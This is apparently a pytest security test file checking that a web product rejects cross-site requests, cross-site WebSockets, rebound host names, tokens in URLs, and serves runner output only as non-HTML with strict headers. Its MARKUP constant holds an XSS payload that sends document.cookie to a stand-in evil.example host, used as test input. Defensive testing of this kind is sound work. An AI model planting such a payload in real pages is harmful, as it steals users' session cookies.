"""F45: requests that a hostile page can make a browser send, against the product: CSRF, cross-site WebSockets, rebound
names, frames, tokens in addresses, and markup in the output of a runner."""

import asyncio
import json
from typing import Any

import pytest
from tests.tables import for_each

EVIL = "https://evil.example"
MARKUP = "<script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>"
PASSWORD = "correct horse battery staple"


@pytest.fixture(scope="module")
def cookie(product: Any) -> str:
    """The cookie of a logged-in operator."""
    return asyncio.run(_log_in(product))


async def _log_in(product: Any) -> str:
    made = await product.ask("PUT", "/api/v1/users/ann", body={"role": "operator", "password": PASSWORD})
    assert made.status == 201, made.body
    body = {"user": "ann", "password": PASSWORD, "cookie": True}
    begun = await product.ask("POST", "/api/v1/session", body=body, token=False)
    assert (begun.status, "token" in begun.json) == (201, False), begun.body
    set_cookie = begun.one("set-cookie")
    assert set_cookie is not None
    first, *flags = [part.strip() for part in set_cookie.split(";")]
    told = {flag.partition("=")[0].lower(): flag.partition("=")[2].lower() for flag in flags}
    assert first.startswith(f"bollard-{product.port}=")
    assert ("httponly" in told, told["samesite"], told["path"]) == (True, "strict", "/")
    assert "domain" not in told
    return first


@pytest.fixture(scope="module")
def run_id(product: Any) -> str:
    answer = asyncio.run(product.say(MARKUP))
    return answer.one("bollard-run-id") or ""


async def _runs_there_are(product: Any) -> list[str]:
    """The ids of all runs, without their statuses."""
    return [run["run_id"] for run in (await product.ask("GET", "/api/v1/runs")).json["items"]]


@pytest.mark.smoke
async def test_the_cookie_works_only_from_our_own_page(product: Any, cookie: str) -> None:
    own = f"http://127.0.0.1:{product.port}"
    body = {"agent": "mirror", "input": {"text": "hello"}}
    good = ["Sec-Fetch-Site: same-origin", f"Origin: {own}"]
    answer = await product.ask("POST", "/api/v1/runs", f"Cookie: {cookie}", *good, body=body, token=False)
    assert answer.status == 202, answer.body
    hostile = [
        [f"Origin: {EVIL}"],
        [f"Origin: {EVIL}", "Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: no-cors"],
        ["Origin: null", "Sec-Fetch-Site: cross-site"],
        ["Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: navigate", "Sec-Fetch-Dest: document"],
        ["Sec-Fetch-Site: same-site"],
        [f"Origin: http://127.0.0.1:{product.port + 1}"],  # another server of this machine
        [f"Origin: http://localhost:{product.port}"],  # the same server by another name is another origin
        [f"Origin: {own}.evil.example"],
        [f"Origin: https://127.0.0.1:{product.port}"],
        [f"Referer: {own}/"],  # is not looked at
        [],
    ]
    before = await _runs_there_are(product)
    for lines in hostile:
        for method, path in (("POST", "/api/v1/runs"), ("PUT", "/api/v1/agents/x"), ("DELETE", "/api/v1/session")):
            answer = await product.ask(method, path, f"Cookie: {cookie}", *lines, body=body, token=False)
            assert (answer.status, answer.code) == (403, "forbidden_origin"), (method, lines)
    assert await _runs_there_are(product) == before
    for lines in hostile[:6]:
        answer = await product.ask("GET", "/api/v1/runs", f"Cookie: {cookie}", *lines, token=False)
        assert answer.status == 403, lines


async def test_a_form_of_another_page_cannot_log_in(product: Any, cookie: str) -> None:
    body = {"user": "ann", "password": PASSWORD, "cookie": True}
    answer = await product.ask("POST", "/api/v1/session", f"Origin: {EVIL}", body=body, token=False)
    assert (answer.status, answer.one("set-cookie")) == (403, None)


async def test_a_page_of_another_site_opens_no_websocket(product: Any, cookie: str, run_id: str) -> None:
    path = f"/api/v1/runs/{run_id}/socket"
    own = f"Origin: http://127.0.0.1:{product.port}"
    assert (await product.shake(path, own, f"Cookie: {cookie}", token=False)).status == 101
    assert (await product.shake(path)).status == 101  # a program, with its token
    for lines in ([f"Origin: {EVIL}"], ["Origin: null"], ["Sec-Fetch-Site: cross-site"], []):
        answer = await product.shake(path, *lines, f"Cookie: {cookie}", token=False)
        assert (answer.status, answer.code) == (403, "forbidden_origin"), lines
    with_token = await product.shake(path, f"Origin: {EVIL}")
    assert with_token.status == 403
    assert (await product.shake(path, own, token=False)).status == 401


@for_each(
    "name",
    ["evil.example", "evil.example:8420", "127.0.0.1.evil.example", "localhost.evil.example", "0.0.0.0", "[::2]"],
)
async def test_a_rebound_name_opens_nothing(product: Any, cookie: str, run_id: str, name: str) -> None:
    for path in ("/healthz", "/readyz", "/api/v1/runs", "/api/v1/session", "/nothing"):
        same = ["Sec-Fetch-Site: same-origin", f"Cookie: {cookie}"]  # so it looks to the browser
        answer = await product.ask("GET", path, *same, host=name)
        assert (answer.status, answer.code) == (421, "forbidden_host"), path
    assert (await product.shake(f"/api/v1/runs/{run_id}/socket", host=name)).status == 421


async def test_no_other_page_may_read_a_response(product: Any) -> None:
    lines = [f"Origin: {EVIL}", "Access-Control-Request-Method: GET", "Access-Control-Request-Headers: authorization"]
    for method in ("OPTIONS", "GET"):
        answer = await product.ask(method, "/api/v1/runs", *lines)
        assert answer.one("access-control-allow-origin") is None
    assert answer.one("access-control-allow-credentials") is None


async def test_a_token_in_an_address_is_refused_with_a_message(product: Any, run_id: str) -> None:
    token = product.token
    for query in (f"token={token}", f"access_token={token}", f"after={token}", f"api_key={token}", f"cursor={token}"):
        for path in ("/api/v1/runs", f"/api/v1/runs/{run_id}/stream"):
            answer = await product.ask("GET", f"{path}?{query}", token=False)
            assert (answer.status, answer.code) == (400, "invalid_argument"), query
            assert token not in answer.body.decode()
            assert "Authorization" in answer.json["error"]["hint"] or "ticket" in answer.json["error"]["hint"]


async def test_the_output_of_a_runner_is_never_served_as_a_page(product: Any, run_id: str) -> None:
    paths = [f"/api/v1/runs/{run_id}", f"/api/v1/runs/{run_id}/records", f"/api/v1/runs/{run_id}/stream"]
    seen = 0
    for path in [*paths, "/api/v1/runs", f"/api/v1/{MARKUP.replace(' ', '%20')}", f"/api/v1/runs?status={EVIL}"]:
        answer = await product.ask("GET", path, "Accept: text/html,*/*", "Sec-Fetch-Dest: document")
        kind = (answer.one("content-type") or "").partition(";")[0]
        assert kind in ("application/json", "text/event-stream"), path
        assert answer.one("x-content-type-options") == "nosniff"
        policy = answer.one("content-security-policy") or ""
        assert all(part in policy for part in ("default-src 'none'", "frame-ancestors 'none'", "sandbox"))
        assert answer.one("x-frame-options") == "DENY"
        assert answer.one("cross-origin-resource-policy") == "same-origin"
        assert answer.one("cache-control") == "no-store"
        assert answer.one("referrer-policy") == "no-referrer"
        seen += json.dumps(MARKUP)[1:-1].encode() in answer.body
    assert seen >= 2  # as text inside JSON
